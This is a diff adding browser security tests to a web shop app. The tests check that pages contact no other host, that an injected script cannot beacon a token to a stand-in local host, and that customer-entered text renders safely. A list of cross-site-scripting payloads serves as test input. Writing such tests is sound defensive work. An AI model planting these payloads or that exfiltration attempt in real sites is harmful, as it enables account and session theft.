@@ -1,0 +1,107 @@
+import { api } from '@runmart/contract'
+import { openLocalSite } from '../bots/local-site.ts'
+import { signInAs } from '../operator/sign-in-as.ts'
+import { createBuyer, dataOf, serviceNamed } from '../orders/buyer.ts'
+import { expect, test } from '../shop/fixtures.ts'
+
+const screens = {
+  customer:
+    '/dashboard /deposit /orders/new /orders /orders/history /bots /referral /transactions /profile /notifications',
+  operator: '/operator /operator/orders /operator/services /operator/bots /operator/customers /operator/books',
+}
+
+test('no page contacts another host, and no address or referrer holds a token', async ({ browser, shop }) => {
+  for (const role of ['customer', 'operator'] as const) {
+    const context = await browser.newContext({ baseURL: shop.url })
+    const page = await context.newPage()
+    const sent: { url: string; referrer: string }[] = []
+    page.on('request', (it) => sent.push({ url: it.url(), referrer: it.headers().referer ?? '' }))
+    await signInAs(page, shop, shop.demo[role])
+    for (const path of ['/', '/vi/blog', '/services', ...screens[role].split(' ')]) {
+      await page.goto(path)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    }
+    const tokens = await page.evaluate(() => [localStorage.accessToken, localStorage.refreshToken])
+    expect(tokens.every(Boolean)).toBe(true)
+    expect(sent.length).toBeGreaterThan(50)
+    for (const { url, referrer } of sent) {
+      if (!url.startsWith('data:')) expect(new URL(url).origin).toBe(shop.url)
+      for (const token of tokens) expect(url + referrer).not.toContain(token)
+    }
+    await context.close()
+  }
+})
+
+test('a script that got into a page could send nothing to another host', async ({ page, shop }) => {
+  const elsewhere = await openLocalSite(0)
+  await signInAs(page, shop, shop.demo.customer)
+  await page.goto('/dashboard')
+  const blocked = await page.evaluate(async (url) => {
+    const image = new Promise((resolve) => {
+      const it = new Image()
+      it.onload = () => resolve(false)
+      it.onerror = () => resolve(true)
+      it.src = url
+    })
+    const fetched = await fetch(url, { mode: 'no-cors' }).then(
+      () => false,
+      () => true,
+    )
+    // Says that it was taken even when the policy stops it: only the listener knows.
+    navigator.sendBeacon(url, 'token')
+    return [fetched, await image]
+  }, `http://${elsewhere.host}/1`)
+  expect(blocked).toEqual([true, true])
+  expect(elsewhere.asked).toEqual([])
+  await elsewhere.close()
+})
+
+const markup = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  "'-alert(1)-'",
+  '{{constructor.constructor("alert(1)")()}}',
+  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
+]
+
+test('what a customer writes is drawn as text, on the pages of customers and of operators', async ({
+  browser,
+  shop,
+}) => {
+  const { call, visitor } = await createBuyer(shop, 900_000)
+  const service = await serviceNamed(call, 'Managed referral campaign')
+  const contactInfo = markup.slice(0, 3).join(' ')
+  const links = [{ link: 'https://example.com/?q=%3Csvg%2Fonload%3Dalert(1)%3E', amount: 1 }]
+  const body = { serviceId: service.id, orderType: 'multiply' as const, links, contactInfo, note: markup.join(' ') }
+  const { order } = dataOf(await call(api.orders.ref, { body }))
+  dataOf(await call(api.accounts.editProfile, { body: { fullName: markup[0] } }))
+
+  const opened = {
+    customer: { who: visitor, pages: [`/orders/${order.id}`, '/orders', '/profile', '/dashboard'] },
+    operator: {
+      who: shop.demo.operator,
+      pages: [`/operator/orders/${order.id}`, '/operator/orders', `/operator/customers?q=${visitor.username}`],
+    },
+  }
+  for (const { who, pages } of Object.values(opened)) {
+    const context = await browser.newContext({ baseURL: shop.url })
+    const page = await context.newPage()
+    const wrong: string[] = []
+    page.on('dialog', (it) => {
+      wrong.push(`dialog ${it.message()}`)
+      void it.dismiss()
+    })
+    page.on('console', (it) => it.type() === 'error' && wrong.push(it.text()))
+    await signInAs(page, shop, who)
+    for (const path of pages) {
+      await page.goto(path)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      await expect(page.locator('img[src="x"], iframe, svg[onload]')).toHaveCount(0)
+    }
+    await page.goto(pages[0] ?? '')
+    await expect(page.getByText(contactInfo)).toBeVisible()
+    expect(wrong).toEqual([])
+    await context.close()
+  }
+})
